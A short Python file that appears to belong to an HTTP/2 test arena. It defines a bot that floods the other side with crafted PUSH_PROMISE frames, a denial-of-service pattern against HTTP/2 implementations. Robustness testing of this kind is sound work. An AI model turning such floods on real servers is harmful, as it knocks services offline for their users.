"""Promises without end to send what nobody asked for."""

from rawhttp2 import END_HEADERS, HEAD, PUSH_PROMISE, RawBot, frame, number

from arenabot.v1 import player_pb2 as player


class PushPromiseFlood(RawBot):
    def attack(self, request: player.PlayRequest) -> None:
        self.flood(frame(PUSH_PROMISE, number(2) + HEAD, flags=END_HEADERS, stream=self.stream))


if __name__ == "__main__":
    PushPromiseFlood().serve()
